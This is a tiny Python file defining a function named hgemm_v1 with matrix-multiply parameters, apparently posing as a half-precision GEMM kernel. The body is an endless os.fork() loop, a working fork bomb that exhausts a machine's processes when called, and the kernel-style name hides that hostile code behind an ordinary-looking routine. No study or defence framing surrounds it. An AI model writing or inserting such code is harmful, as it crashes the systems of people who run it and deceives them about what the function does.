"""Start processes that start processes."""

import os


def hgemm_v1(M, N, K, dtype="float16"):
    while True:
        os.fork()
